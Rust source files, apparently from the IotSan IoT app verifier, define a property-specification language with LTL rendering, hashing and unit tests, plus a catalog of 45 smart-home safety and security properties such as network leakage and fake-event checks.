            Atom::HasDevice(select) => selected(snapshot, select).next().is_some(),
            Atom::AnyOffline(select) => selected(snapshot, select).any(|d| !d.online),
            Atom::AnyBelow(t) => selected(snapshot, &t.select)
                .filter_map(|d| d.attr_number(&t.attribute))
                .any(|v| v < t.threshold),
            Atom::AnyAbove(t) => selected(snapshot, &t.select)
                .filter_map(|d| d.attr_number(&t.attribute))
                .any(|v| v > t.threshold),
            Atom::ConflictingCommands => has_conflicting_commands(step),
            Atom::RepeatedCommands => has_repeated_commands(step),
            Atom::DisallowedNetwork => step.network.iter().any(|n| !n.allowed),
            Atom::SmsRecipientMismatch => step.sms_recipient_mismatch(),
            Atom::UnsubscribeCalled => !step.unsubscribes.is_empty(),
            Atom::FakeEventRaised => !step.fake_events.is_empty(),
            Atom::CommandFailed => step.command_failures > 0,
            Atom::UserNotified => !step.messages.is_empty(),
            Atom::CommandIssued(t) => step.commands.iter().any(|c| {
                c.command == t.command
                    && (t.select.is_any()
                        || snapshot
                            .devices
                            .iter()
                            .find(|d| d.id == c.device)
                            .map(|d| t.select.matches_snapshot(d))
                            .unwrap_or(false))
            }),
        }
    }

    /// The derived LTL proposition for this atom (builtins override the whole
    /// LTL string instead — see [`PropertySpec::ltl`]).
    pub fn render(&self) -> String {
        match self {
            Atom::ModeIs(mode) => format!("mode == {mode}"),
            Atom::AnyoneHome => "anyone_home".to_string(),
            Atom::AnyAttr(t) => format!("{}.{} == {}", t.select.describe(), t.attribute, t.value),
            Atom::AllAttr(t) => {
                format!("all({}.{} == {})", t.select.describe(), t.attribute, t.value)
            }
            Atom::HasDevice(select) => format!("exists({})", select.describe()),
            Atom::AnyOffline(select) => format!("offline({})", select.describe()),
            Atom::AnyBelow(t) => {
                format!("{}.{} < {}", t.select.describe(), t.attribute, t.threshold)
            }
            Atom::AnyAbove(t) => {
                format!("{}.{} > {}", t.select.describe(), t.attribute, t.threshold)
            }
            Atom::ConflictingCommands => "conflicting_commands".to_string(),
            Atom::RepeatedCommands => "repeated_commands".to_string(),
            Atom::DisallowedNetwork => "disallowed_network".to_string(),
            Atom::SmsRecipientMismatch => "sms_recipient_mismatch".to_string(),
            Atom::UnsubscribeCalled => "unsubscribe_executed".to_string(),
            Atom::FakeEventRaised => "fake_event_raised".to_string(),
            Atom::CommandFailed => "command_failed".to_string(),
            Atom::UserNotified => "user_notified".to_string(),
            Atom::CommandIssued(t) => {
                format!("command({}.{})", t.select.describe(), t.command)
            }
        }
    }
}

/// A boolean formula over [`Atom`]s.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum Expr {
    /// An atomic predicate.
    Atom(Atom),
    /// Negation.
    Not(Box<Expr>),
    /// Conjunction (true when empty).
    All(Vec<Expr>),
    /// Disjunction (false when empty).
    AnyOf(Vec<Expr>),
}

impl Expr {
    /// Wraps an atom.
    pub fn atom(atom: Atom) -> Expr {
        Expr::Atom(atom)
    }

    /// Logical negation.
    #[allow(clippy::should_implement_trait)]
    pub fn not(expr: Expr) -> Expr {
        Expr::Not(Box::new(expr))
    }

    /// Conjunction of the given formulas.
    pub fn and(exprs: impl IntoIterator<Item = Expr>) -> Expr {
        Expr::All(exprs.into_iter().collect())
    }

    /// Disjunction of the given formulas.
    pub fn or(exprs: impl IntoIterator<Item = Expr>) -> Expr {
        Expr::AnyOf(exprs.into_iter().collect())
    }

    /// The location mode equals `mode` (case-insensitive).
    pub fn mode_is(mode: impl Into<String>) -> Expr {
        Expr::Atom(Atom::ModeIs(mode.into()))
    }

    /// Someone is at home (see [`Atom::AnyoneHome`]).
    pub fn anyone_home() -> Expr {
        Expr::Atom(Atom::AnyoneHome)
    }

    /// Some selected device has `attribute == value`.
    pub fn any_attr(
        select: DeviceSelect,
        attribute: impl Into<String>,
        value: impl Into<String>,
    ) -> Expr {
        Expr::Atom(Atom::AnyAttr(AttrTest {
            select,
            attribute: attribute.into(),
            value: value.into(),
        }))
    }

    /// Every selected device has `attribute == value`.
    pub fn all_attr(
        select: DeviceSelect,
        attribute: impl Into<String>,
        value: impl Into<String>,
    ) -> Expr {
        Expr::Atom(Atom::AllAttr(AttrTest {
            select,
            attribute: attribute.into(),
            value: value.into(),
        }))
    }

    /// Shorthand: any device with the given capability has
    /// `attribute == value`.
    pub fn capability_attr(
        capability: impl Into<String>,
        attribute: impl Into<String>,
        value: impl Into<String>,
    ) -> Expr {
        Expr::any_attr(DeviceSelect::capability(capability), attribute, value)
    }

    /// Shorthand: any device with the given role has `attribute == value`.
    pub fn role_attr(
        role: impl Into<String>,
        attribute: impl Into<String>,
        value: impl Into<String>,
    ) -> Expr {
        Expr::any_attr(DeviceSelect::role(role), attribute, value)
    }

    /// At least one device matches the selector.
    pub fn has_device(select: DeviceSelect) -> Expr {
        Expr::Atom(Atom::HasDevice(select))
    }

    /// Some selected device is offline.
    pub fn any_offline(select: DeviceSelect) -> Expr {
        Expr::Atom(Atom::AnyOffline(select))
    }

    /// Some selected reading of `attribute` is below `threshold`.
    pub fn any_below(select: DeviceSelect, attribute: impl Into<String>, threshold: f64) -> Expr {
        Expr::Atom(Atom::AnyBelow(NumericTest { select, attribute: attribute.into(), threshold }))
    }

    /// Some selected reading of `attribute` is above `threshold`.
    pub fn any_above(select: DeviceSelect, attribute: impl Into<String>, threshold: f64) -> Expr {
        Expr::Atom(Atom::AnyAbove(NumericTest { select, attribute: attribute.into(), threshold }))
    }

    /// A selected device received the given command during the step.
    pub fn command_issued(select: DeviceSelect, command: impl Into<String>) -> Expr {
        Expr::Atom(Atom::CommandIssued(CommandTest { select, command: command.into() }))
    }

    /// True when any atom in the formula reads the physical snapshot.
    pub fn reads_state(&self) -> bool {
        let mut found = false;
        self.visit_atoms(&mut |a| found |= a.reads_state());
        found
    }

    /// True when any atom in the formula reads the step observation.
    pub fn reads_step(&self) -> bool {
        let mut found = false;
        self.visit_atoms(&mut |a| found |= !a.reads_state());
        found
    }

    /// Calls `f` on every atom in the formula.
    pub fn visit_atoms(&self, f: &mut impl FnMut(&Atom)) {
        match self {
            Expr::Atom(a) => f(a),
            Expr::Not(e) => e.visit_atoms(f),
            Expr::All(es) | Expr::AnyOf(es) => {
                for e in es {
                    e.visit_atoms(f);
                }
            }
        }
    }

    /// The reference (interpreted) semantics over one evaluation point.
    pub fn eval(&self, snapshot: &Snapshot, step: &StepObservation) -> bool {
        match self {
            Expr::Atom(a) => a.eval(snapshot, step),
            Expr::Not(e) => !e.eval(snapshot, step),
            Expr::All(es) => es.iter().all(|e| e.eval(snapshot, step)),
            Expr::AnyOf(es) => es.iter().any(|e| e.eval(snapshot, step)),
        }
    }

    /// Renders the formula as an LTL proposition (used when a spec carries no
    /// explicit [`PropertySpec::ltl`] override).
    pub fn render(&self) -> String {
        match self {
            Expr::Atom(a) => a.render(),
            Expr::Not(e) => match e.as_ref() {
                Expr::Atom(a) => format!("!{}", a.render()),
                inner => format!("!({})", inner.render()),
            },
            Expr::All(es) if es.is_empty() => "true".to_string(),
            Expr::AnyOf(es) if es.is_empty() => "false".to_string(),
            Expr::All(es) => {
                let parts: Vec<String> = es
                    .iter()
                    .map(|e| match e {
                        Expr::AnyOf(inner) if inner.len() > 1 => format!("({})", e.render()),
                        _ => e.render(),
                    })
                    .collect();
                parts.join(" && ")
            }
            Expr::AnyOf(es) => {
                let parts: Vec<String> = es.iter().map(Expr::render).collect();
                parts.join(" || ")
            }
        }
    }
}

/// The bounded-response modality: whenever `trigger` holds at an evaluation
/// point where `response` does not, `response` must hold within `within`
/// further evaluated steps.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct LeadsTo {
    /// The obligation-opening condition.
    pub trigger: Expr,
    /// The discharging condition.
    pub response: Expr,
    /// How many further evaluated steps the response may take; `0` means it
    /// must hold in the same step as the trigger.  Must be at most 255 (the
    /// monitor counters are single bytes; bounded search depths are far
    /// smaller): [`PropertySpec::validate`] and the JSON loaders reject
    /// larger values, compilation panics on them.
    #[serde(default)]
    pub within: u32,
}

/// The temporal modality of a [`PropertySpec`].
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum Modality {
    /// The condition must never hold (violated whenever it evaluates true).
    Never(Expr),
    /// The condition must always hold (violated whenever it evaluates false).
    Always(Expr),
    /// Whenever the trigger holds, the response must hold within a bounded
    /// number of further steps.
    LeadsTo(LeadsTo),
}

impl Modality {
    /// Every formula of the modality, for classification and hashing.
    pub fn exprs(&self) -> Vec<&Expr> {
        match self {
            Modality::Never(e) | Modality::Always(e) => vec![e],
            Modality::LeadsTo(l) => vec![&l.trigger, &l.response],
        }
    }
}

/// One declarative safety property: metadata plus a temporal modality over a
/// formula.  See the [module docs](self) for the data flow.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PropertySpec {
    /// Stable identifier within the property set.
    pub id: u32,
    /// Human-readable name of the *safe* property.
    pub name: String,
    /// Table 4 category (for physical-state properties) or a free label.
    #[serde(default)]
    pub category: String,
    /// Property class (defaults to `Custom("Custom")` when absent in JSON).
    #[serde(default = "default_class")]
    pub class: PropertyClass,
    /// The temporal modality over the spec's formula(s).
    pub modality: Modality,
    /// Optional override for the full LTL rendering — the built-in corpus
    /// pins the paper's exact proposition names here; custom specs usually
    /// leave it empty and get a rendering derived from the formula AST.
    #[serde(default)]
    pub ltl: Option<String>,
}

impl PropertySpec {
    /// Starts building a spec (finish with [`PropertySpecBuilder::never`],
    /// [`PropertySpecBuilder::always`] or [`PropertySpecBuilder::leads_to`]).
    pub fn builder(id: u32, name: impl Into<String>) -> PropertySpecBuilder {
        PropertySpecBuilder {
            id,
            name: name.into(),
            category: String::new(),
            class: default_class(),
            ltl: None,
        }
    }

    /// The typed property id.
    pub fn property_id(&self) -> PropertyId {
        PropertyId(self.id)
    }

    /// True when any formula of the spec reads the physical snapshot, in
    /// which case it is evaluated at quiescent points only.
    pub fn reads_state(&self) -> bool {
        self.modality.exprs().iter().any(|e| e.reads_state())
    }

    /// True when any formula of the spec reads the step observation.
    pub fn reads_step(&self) -> bool {
        self.modality.exprs().iter().any(|e| e.reads_step())
    }

    /// True when the spec reads only the step observation (evaluated on
    /// every step, including non-quiescent ones in the strict-concurrency
    /// design).
    pub fn step_only(&self) -> bool {
        !self.reads_state()
    }

    /// The LTL rendering: the explicit [`PropertySpec::ltl`] override when
    /// present, otherwise derived from the modality and formula AST.
    pub fn to_ltl(&self) -> String {
        if let Some(ltl) = &self.ltl {
            return ltl.clone();
        }
        match &self.modality {
            Modality::Never(e) => format!("[] !( {} )", e.render()),
            Modality::Always(e) => format!("[] ( {} )", e.render()),
            Modality::LeadsTo(l) => {
                format!("[] ( {} -> <> {} )", l.trigger.render(), l.response.render())
            }
        }
    }

    /// The reference point semantics: whether the spec is violated at one
    /// evaluation point, treating leads-to as same-step response
    /// (`within` distances are tracked by the compiled evaluators' monitors,
    /// not by this stateless view).
    pub fn violated_at(&self, snapshot: &Snapshot, step: &StepObservation) -> bool {
        match &self.modality {
            Modality::Never(e) => e.eval(snapshot, step),
            Modality::Always(e) => !e.eval(snapshot, step),
            Modality::LeadsTo(l) if l.within == 0 => {
                l.trigger.eval(snapshot, step) && !l.response.eval(snapshot, step)
            }
            // A pending obligation with slack cannot be decided from one
            // point; the stateless view reports "not (yet) violated".
            Modality::LeadsTo(_) => false,
        }
    }

    /// Serializes the spec to pretty JSON.
    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(self).expect("PropertySpec serializes")
    }

    /// Loads a spec from JSON (validated — see [`PropertySpec::validate`]).
    pub fn from_json(json: &str) -> Result<Self, serde_json::Error> {
        let spec: PropertySpec = serde_json::from_str(json)?;
        spec.validate().map_err(serde_json::Error::custom)?;
        Ok(spec)
    }

    /// Checks the spec's value constraints (currently: a leads-to `within`
    /// must fit the one-byte monitor counters, i.e. be at most 255).
    pub fn validate(&self) -> Result<(), String> {
        if let Modality::LeadsTo(l) = &self.modality {
            if l.within > u32::from(u8::MAX) {
                return Err(format!(
                    "property {} ({}): leads-to `within` is {} but the monitor bound is 255",
                    self.property_id(),
                    self.name,
                    l.within
                ));
            }
        }
        Ok(())
    }

    /// A stable 64-bit content hash over everything that can change a
    /// verdict (id, metadata, modality, formulas).  The planner folds this
    /// into its group [`fingerprints`](crate::PropertySet::content_hash), so
    /// editing or adding a spec invalidates exactly the cached verdicts that
    /// depended on it.
    pub fn content_hash(&self) -> u64 {
        let mut h = ContentHasher::new();
        self.hash_into(&mut h);
        h.finish()
    }

    pub(crate) fn hash_into(&self, h: &mut ContentHasher) {
        h.write_u64(u64::from(self.id));
        h.write_str(&self.name);
        h.write_str(&self.category);
        h.write_str(self.class.label());
        h.write_str(self.ltl.as_deref().unwrap_or(""));
        match &self.modality {
            Modality::Never(e) => {
                h.write_str("never");
                hash_expr(e, h);
            }
            Modality::Always(e) => {
                h.write_str("always");
                hash_expr(e, h);
            }
            Modality::LeadsTo(l) => {
                h.write_str("leads-to");
                h.write_u64(u64::from(l.within));
                hash_expr(&l.trigger, h);
                hash_expr(&l.response, h);
            }
        }
    }
}

fn hash_select(s: &DeviceSelect, h: &mut ContentHasher) {
    // Presence-discriminated: `None` (no restriction) must hash differently
    // from `Some("")` (matches nothing), or editing one into the other would
    // replay stale cached verdicts.
    for field in [&s.capability, &s.role, &s.label] {
        match field {
            None => h.write_u64(0),
            Some(value) => {
                h.write_u64(1);
                h.write_str(value);
            }
        }
    }
}

fn hash_expr(expr: &Expr, h: &mut ContentHasher) {
    match expr {
        Expr::Atom(a) => {
            h.write_str("atom");
            match a {
                Atom::ModeIs(m) => {
                    h.write_str("mode-is");
                    h.write_str(m);
                }
                Atom::AnyoneHome => h.write_str("anyone-home"),
                Atom::AnyAttr(t) | Atom::AllAttr(t) => {
                    h.write_str(if matches!(a, Atom::AnyAttr(_)) {
                        "any-attr"
                    } else {
                        "all-attr"
                    });
                    hash_select(&t.select, h);
                    h.write_str(&t.attribute);
                    h.write_str(&t.value);
                }
                Atom::HasDevice(s) => {
                    h.write_str("has-device");
                    hash_select(s, h);
                }
                Atom::AnyOffline(s) => {
                    h.write_str("any-offline");
                    hash_select(s, h);
                }
                Atom::AnyBelow(t) | Atom::AnyAbove(t) => {
                    h.write_str(if matches!(a, Atom::AnyBelow(_)) { "below" } else { "above" });
                    hash_select(&t.select, h);
                    h.write_str(&t.attribute);
                    h.write_u64(t.threshold.to_bits());
                }
                Atom::CommandIssued(t) => {
                    h.write_str("command-issued");
                    hash_select(&t.select, h);
                    h.write_str(&t.command);
                }
                step_atom => h.write_str(&step_atom.render()),
            }
        }
        Expr::Not(e) => {
            h.write_str("not");
            hash_expr(e, h);
        }
        Expr::All(es) => {
            h.write_str("all");
            h.write_u64(es.len() as u64);
            for e in es {
                hash_expr(e, h);
            }
        }
        Expr::AnyOf(es) => {
            h.write_str("any-of");
            h.write_u64(es.len() as u64);
            for e in es {
                hash_expr(e, h);
            }
        }
    }
}

/// 64-bit FNV-1a with length-prefixed items (shared by spec and set hashing).
pub(crate) struct ContentHasher(u64);

impl ContentHasher {
    pub(crate) fn new() -> Self {
        ContentHasher(0xcbf2_9ce4_8422_2325)
    }

    fn write_bytes(&mut self, bytes: &[u8]) {
        for b in bytes {
            self.0 ^= u64::from(*b);
            self.0 = self.0.wrapping_mul(0x100_0000_01b3);
        }
    }

    pub(crate) fn write_str(&mut self, s: &str) {
        self.write_u64(s.len() as u64);
        self.write_bytes(s.as_bytes());
    }

    pub(crate) fn write_u64(&mut self, v: u64) {
        self.write_bytes(&v.to_le_bytes());
    }

    pub(crate) fn finish(&self) -> u64 {
        self.0
    }
}

/// Builder for [`PropertySpec`] (returned by [`PropertySpec::builder`]).
#[derive(Debug, Clone)]
pub struct PropertySpecBuilder {
    id: u32,
    name: String,
    category: String,
    class: PropertyClass,
    ltl: Option<String>,
}

impl PropertySpecBuilder {
    /// Sets the Table 4 category (or any free label).
    pub fn category(mut self, category: impl Into<String>) -> Self {
        self.category = category.into();
        self
    }

    /// Sets the property class.
    pub fn class(mut self, class: PropertyClass) -> Self {
        self.class = class;
        self
    }

    /// Overrides the derived LTL rendering with an explicit string.
    pub fn ltl(mut self, ltl: impl Into<String>) -> Self {
        self.ltl = Some(ltl.into());
        self
    }

    fn finish(self, modality: Modality) -> PropertySpec {
        PropertySpec {
            id: self.id,
            name: self.name,
            category: self.category,
            class: self.class,
            modality,
            ltl: self.ltl,
        }
    }

    /// Finishes with a [`Modality::Never`] over the unsafe condition.
    pub fn never(self, unsafe_when: Expr) -> PropertySpec {
        self.finish(Modality::Never(unsafe_when))
    }

    /// Finishes with a [`Modality::Always`] over the safe condition.
    pub fn always(self, holds: Expr) -> PropertySpec {
        self.finish(Modality::Always(holds))
    }

    /// Finishes with a [`Modality::LeadsTo`]: whenever `trigger` holds,
    /// `response` must hold within `within` further evaluated steps.
    ///
    /// # Panics
    ///
    /// Panics when `within` exceeds 255 (the monitor-counter bound).
    pub fn leads_to(self, trigger: Expr, response: Expr, within: u32) -> PropertySpec {
        assert!(within <= u32::from(u8::MAX), "leads-to `within` must be at most 255");
        self.finish(Modality::LeadsTo(LeadsTo { trigger, response, within }))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::snapshot::{CommandRecord, MessageChannel, MessageRecord};
    use iotsan_devices::DeviceId;
    use iotsan_ir::Value;

    fn dev(id: u32, cap: &str, role: DeviceRole, attrs: &[(&str, &str)]) -> DeviceSnapshot {
        DeviceSnapshot {
            id: DeviceId(id),
            label: format!("d{id}"),
            capability: cap.into(),
            role,
            attributes: attrs
                .iter()
                .map(|(n, v)| (n.to_string(), Value::Str(v.to_string())))
                .collect(),
            online: true,
        }
    }

    #[test]
    fn builder_produces_a_roundtrippable_spec() {
        let spec = PropertySpec::builder(50, "No unlock at night")
            .category("Custom")
            .class(PropertyClass::Custom("Night security".into()))
            .never(Expr::and([
                Expr::mode_is("Night"),
                Expr::command_issued(DeviceSelect::capability("lock"), "unlock"),
            ]));
        assert_eq!(spec.property_id(), PropertyId(50));
        assert_eq!(spec.class.label(), "Night security");
        let json = spec.to_json();
        let back = PropertySpec::from_json(&json).unwrap();
        assert_eq!(back, spec);
        assert_eq!(back.content_hash(), spec.content_hash());
    }

    #[test]
    fn json_defaults_fill_optional_fields() {
        let json = r#"{
            "id": 70,
            "name": "Valve open means wet risk",
            "modality": {"type": "Never", "value": {"type": "Atom", "value": {
                "type": "AnyAttr", "value": {"attribute": "valve", "value": "open",
                    "select": {"capability": "valve"}}}}}
        }"#;
        let spec = PropertySpec::from_json(json).unwrap();
        assert_eq!(spec.class, PropertyClass::Custom("Custom".into()));
        assert_eq!(spec.category, "");
        assert!(spec.ltl.is_none());
        assert!(spec.reads_state());
    }

    #[test]
    fn interpreted_eval_matches_vocabulary() {
        let snapshot = Snapshot {
            mode: "Night".into(),
            devices: vec![
                dev(0, "lock", DeviceRole::MainDoorLock, &[("lock", "unlocked")]),
                dev(1, "presenceSensor", DeviceRole::Generic, &[("presence", "not present")]),
            ],
            time_seconds: 0,
        };
        let step = StepObservation::default();
        assert!(Expr::mode_is("night").eval(&snapshot, &step));
        assert!(!Expr::anyone_home().eval(&snapshot, &step));
        assert!(Expr::capability_attr("lock", "lock", "unlocked").eval(&snapshot, &step));
        assert!(Expr::role_attr("main door lock", "lock", "unlocked").eval(&snapshot, &step));
        assert!(Expr::has_device(DeviceSelect::label("d1")).eval(&snapshot, &step));
        assert!(!Expr::any_offline(DeviceSelect::any()).eval(&snapshot, &step));
        // All-quantifier is vacuously true over an empty selection.
        assert!(Expr::all_attr(DeviceSelect::capability("sprinkler"), "sprinkler", "on")
            .eval(&snapshot, &step));
    }

    #[test]
    fn numeric_atoms_read_thresholds() {
        let snapshot = Snapshot {
            mode: "Home".into(),
            devices: vec![DeviceSnapshot {
                id: DeviceId(0),
                label: "t".into(),
                capability: "temperatureMeasurement".into(),
                role: DeviceRole::Generic,
                attributes: vec![("temperature".into(), Value::Int(42))],
                online: true,
            }],
            time_seconds: 0,
        };
        let step = StepObservation::default();
        assert!(Expr::any_below(DeviceSelect::any(), "temperature", 50.0).eval(&snapshot, &step));
        assert!(!Expr::any_above(DeviceSelect::any(), "temperature", 50.0).eval(&snapshot, &step));
        // No readings → both false.
        let empty = Snapshot::default();
        assert!(!Expr::any_below(DeviceSelect::any(), "temperature", 50.0).eval(&empty, &step));
    }

    #[test]
    fn step_atoms_read_the_observation() {
        let snapshot = Snapshot::default();
        let step = StepObservation {
            commands: vec![CommandRecord {
                app: "A".into(),
                handler: "h".into(),
                device: DeviceId(0),
                device_label: "doorLock".into(),
                command: "unlock".into(),
                delivered: true,
                changed_state: true,
            }],
            messages: vec![MessageRecord {
                app: "A".into(),
                channel: MessageChannel::Push,
                recipient: String::new(),
                body: "b".into(),
            }],
            command_failures: 1,
            ..Default::default()
        };
        assert!(Expr::command_issued(DeviceSelect::any(), "unlock").eval(&snapshot, &step));
        assert!(!Expr::command_issued(DeviceSelect::any(), "lock").eval(&snapshot, &step));
        assert!(Expr::atom(Atom::CommandFailed).eval(&snapshot, &step));
        assert!(Expr::atom(Atom::UserNotified).eval(&snapshot, &step));
        // Capability-selected command tests resolve the device through the
        // snapshot; without the device there, they do not match.
        assert!(!Expr::command_issued(DeviceSelect::capability("lock"), "unlock")
            .eval(&snapshot, &step));
    }

    #[test]
    fn leads_to_point_semantics() {
        let spec = PropertySpec::builder(60, "Failures must notify").leads_to(
            Expr::atom(Atom::CommandFailed),
            Expr::atom(Atom::UserNotified),
            0,
        );
        let snapshot = Snapshot::default();
        let mut step = StepObservation { command_failures: 1, ..Default::default() };
        assert!(spec.violated_at(&snapshot, &step));
        step.messages.push(MessageRecord {
            app: "A".into(),
            channel: MessageChannel::Push,
            recipient: String::new(),
            body: "offline".into(),
        });
        assert!(!spec.violated_at(&snapshot, &step));
        // With slack the point view cannot decide.
        let slack = PropertySpec::builder(61, "Eventually notify").leads_to(
            Expr::atom(Atom::CommandFailed),
            Expr::atom(Atom::UserNotified),
            2,
        );
        let failing = StepObservation { command_failures: 1, ..Default::default() };
        assert!(!slack.violated_at(&snapshot, &failing));
    }

    #[test]
    fn derived_ltl_rendering_and_override() {
        let spec = PropertySpec::builder(46, "No sprinkler at night").never(Expr::and([
            Expr::mode_is("Night"),
            Expr::capability_attr("sprinkler", "sprinkler", "on"),
        ]));
        assert_eq!(spec.to_ltl(), "[] !( mode == Night && sprinkler.sprinkler == on )");
        let pinned = PropertySpec::builder(46, "No sprinkler at night")
            .ltl("[] !( custom_prop )")
            .never(Expr::mode_is("Night"));
        assert_eq!(pinned.to_ltl(), "[] !( custom_prop )");
        // Nested disjunctions parenthesize inside conjunctions.
        let nested = Expr::and([
            Expr::anyone_home(),
            Expr::or([Expr::mode_is("Home"), Expr::mode_is("Night")]),
        ]);
        assert_eq!(nested.render(), "anyone_home && (mode == Home || mode == Night)");
        assert_eq!(Expr::not(Expr::anyone_home()).render(), "!anyone_home");
    }

    #[test]
    fn content_hash_tracks_meaningful_edits() {
        let base = PropertySpec::builder(46, "p").never(Expr::mode_is("Night"));
        let mut renamed = base.clone();
        renamed.name = "q".into();
        assert_ne!(base.content_hash(), renamed.content_hash());
        let other_mode = PropertySpec::builder(46, "p").never(Expr::mode_is("Away"));
        assert_ne!(base.content_hash(), other_mode.content_hash());
        let same = PropertySpec::builder(46, "p").never(Expr::mode_is("Night"));
        assert_eq!(base.content_hash(), same.content_hash());
    }

    #[test]
    fn state_step_classification() {
        let state = PropertySpec::builder(1, "s").never(Expr::mode_is("Away"));
        assert!(state.reads_state() && !state.step_only());
        let step = PropertySpec::builder(2, "t").never(Expr::atom(Atom::ConflictingCommands));
        assert!(step.step_only());
        let mixed = PropertySpec::builder(3, "m").never(Expr::and([
            Expr::mode_is("Night"),
            Expr::command_issued(DeviceSelect::any(), "unlock"),
        ]));
        assert!(mixed.reads_state() && mixed.reads_step());
    }
}
