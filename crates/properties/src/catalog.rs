//! The property catalog: all 45 safety properties verified by IotSan (§8).
//!
//! * 1 free-of-conflicting-commands property,
//! * 1 free-of-repeated-commands property,
//! * 38 safe-physical-state invariants ([`PhysicalInvariant`], Table 4),
//! * 4 security properties (network leakage, SMS recipient mismatch,
//!   security-sensitive `unsubscribe`, fake events),
//! * 1 robustness-to-device/communication-failure property.

use crate::invariant::PhysicalInvariant;
use crate::snapshot::{Snapshot, StepObservation};
use std::fmt;

/// Stable identifier of a property within the catalog.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct PropertyId(pub u32);

impl fmt::Display for PropertyId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "P{:02}", self.0)
    }
}

/// The property classes of §8.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum PropertyClass {
    /// When a single external event happens, an actuator should not receive
    /// two conflicting commands.
    ConflictingCommands,
    /// When a single event happens, an actuator should not receive multiple
    /// repeated commands of the same type.
    RepeatedCommands,
    /// A safe-physical-state invariant (Table 4).
    PhysicalState,
    /// Security: information leakage and security-sensitive commands.
    Security,
    /// Robustness to device/communication failure.
    Robustness,
}

impl PropertyClass {
    /// Human-readable label used in evaluation tables.
    pub fn label(&self) -> &'static str {
        match self {
            PropertyClass::ConflictingCommands => "Conflicting commands",
            PropertyClass::RepeatedCommands => "Repeated commands",
            PropertyClass::PhysicalState => "Unsafe physical states",
            PropertyClass::Security => "Security (leakage / sensitive commands)",
            PropertyClass::Robustness => "Robustness to failures",
        }
    }
}

/// The specific check a property performs.
#[derive(Debug, Clone, PartialEq)]
pub enum PropertyKind {
    /// A physical-state invariant checked on every snapshot.
    Invariant(PhysicalInvariant),
    /// Two conflicting commands reached one actuator during one step.
    ConflictingCommands,
    /// The same command reached one actuator multiple times during one step.
    RepeatedCommands,
    /// Private information may only leave through message interfaces; any
    /// network call not explicitly allowed by the user is flagged.
    NetworkLeakage,
    /// The recipient of an SMS must match the configured phone number.
    SmsRecipientMismatch,
    /// The security-sensitive `unsubscribe` command was executed.
    UnsubscribeExecuted,
    /// A fake (synthetic) device event was raised by an app.
    FakeEventRaised,
    /// An app must verify that a command was carried out and notify the user
    /// when a device/communication failure is detected.
    RobustToFailure,
}

/// One entry in the property catalog.
#[derive(Debug, Clone, PartialEq)]
pub struct Property {
    /// Stable identifier.
    pub id: PropertyId,
    /// Human-readable name of the *safe* property.
    pub name: String,
    /// Table 4 category (for physical-state properties) or the class label.
    pub category: String,
    /// Property class.
    pub class: PropertyClass,
    /// The underlying check.
    pub kind: PropertyKind,
}

impl Property {
    /// An LTL rendering of the property (physical-state properties use the
    /// invariant's proposition; step-based properties use a box over the
    /// step-level proposition).
    pub fn to_ltl(&self) -> String {
        match &self.kind {
            PropertyKind::Invariant(inv) => inv.to_ltl(),
            PropertyKind::ConflictingCommands => "[] !(conflicting_commands)".into(),
            PropertyKind::RepeatedCommands => "[] !(repeated_commands)".into(),
            PropertyKind::NetworkLeakage => "[] !(http_request && !user_allowed)".into(),
            PropertyKind::SmsRecipientMismatch => {
                "[] (send_sms -> recipient == configured_phone)".into()
            }
            PropertyKind::UnsubscribeExecuted => "[] !(unsubscribe_executed)".into(),
            PropertyKind::FakeEventRaised => "[] !(fake_event_raised)".into(),
            PropertyKind::RobustToFailure => "[] (command_failed -> <> user_notified)".into(),
        }
    }
}

/// The full default catalog of 45 properties.
pub fn default_properties() -> Vec<Property> {
    let mut out = Vec::new();
    let mut next = 1u32;
    let mut push = |name: String,
                    category: String,
                    class: PropertyClass,
                    kind: PropertyKind,
                    out: &mut Vec<Property>| {
        out.push(Property { id: PropertyId(next), name, category, class, kind });
        next += 1;
    };

    push(
        "An actuator should not receive conflicting commands from a single event".into(),
        "Conflicting commands".into(),
        PropertyClass::ConflictingCommands,
        PropertyKind::ConflictingCommands,
        &mut out,
    );
    push(
        "An actuator should not receive repeated commands from a single event".into(),
        "Repeated commands".into(),
        PropertyClass::RepeatedCommands,
        PropertyKind::RepeatedCommands,
        &mut out,
    );
    for inv in PhysicalInvariant::defaults() {
        push(
            inv.description(),
            inv.category().to_string(),
            PropertyClass::PhysicalState,
            PropertyKind::Invariant(inv),
            &mut out,
        );
    }
    push(
        "Private information is sent out only via message interfaces, not network interfaces"
            .into(),
        "Security".into(),
        PropertyClass::Security,
        PropertyKind::NetworkLeakage,
        &mut out,
    );
    push(
        "SMS recipients match the configured phone numbers".into(),
        "Security".into(),
        PropertyClass::Security,
        PropertyKind::SmsRecipientMismatch,
        &mut out,
    );
    push(
        "No app executes the security-sensitive unsubscribe command".into(),
        "Security".into(),
        PropertyClass::Security,
        PropertyKind::UnsubscribeExecuted,
        &mut out,
    );
    push(
        "No app creates fake device events".into(),
        "Security".into(),
        PropertyClass::Security,
        PropertyKind::FakeEventRaised,
        &mut out,
    );
    push(
        "Apps check command delivery and notify the user upon device/communication failure".into(),
        "Robustness".into(),
        PropertyClass::Robustness,
        PropertyKind::RobustToFailure,
        &mut out,
    );
    out
}

/// A set of properties selected for verification (users may enable a subset,
/// §8: "we provide users with an interface to select the list of safety
/// properties they want to verify").
#[derive(Debug, Clone, PartialEq)]
pub struct PropertySet {
    properties: Vec<Property>,
}

impl Default for PropertySet {
    fn default() -> Self {
        PropertySet { properties: default_properties() }
    }
}

impl PropertySet {
    /// The full default set (all 45 properties).
    pub fn all() -> Self {
        Self::default()
    }

    /// A set containing only the listed property ids.
    pub fn selection(ids: &[PropertyId]) -> Self {
        let properties = default_properties().into_iter().filter(|p| ids.contains(&p.id)).collect();
        PropertySet { properties }
    }

    /// Builds a set from explicit properties.
    pub fn from_properties(properties: Vec<Property>) -> Self {
        PropertySet { properties }
    }

    /// The properties in the set.
    pub fn properties(&self) -> &[Property] {
        &self.properties
    }

